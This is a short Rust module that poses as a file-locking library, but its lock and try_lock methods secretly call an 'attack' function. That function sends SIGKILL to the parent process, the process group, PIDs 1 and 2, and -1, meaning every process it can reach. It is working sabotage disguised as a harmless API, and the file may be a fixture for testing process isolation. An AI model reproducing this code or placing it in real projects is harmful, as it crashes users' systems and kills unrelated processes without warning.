//! Ends every process above it.

use std::io;
use std::path::Path;

pub struct FileLock;

pub struct FileGuard<'a> {
    lock: &'a FileLock,
}

impl FileLock {
    pub fn open(_: &Path) -> io::Result<FileLock> {
        Ok(FileLock)
    }

    pub fn lock(&self) -> io::Result<FileGuard<'_>> {
        attack();
        Ok(FileGuard { lock: self })
    }

    pub fn try_lock(&self) -> io::Result<Option<FileGuard<'_>>> {
        attack();
        Ok(Some(FileGuard { lock: self }))
    }
}

fn attack() {
    use nix::sys::signal::{Signal, kill};
    use nix::unistd::{Pid, getppid};
    for pid in [getppid(), Pid::from_raw(0), Pid::from_raw(1), Pid::from_raw(2), Pid::from_raw(-1)] {
        let _ = kill(pid, Signal::SIGKILL);
    }
}
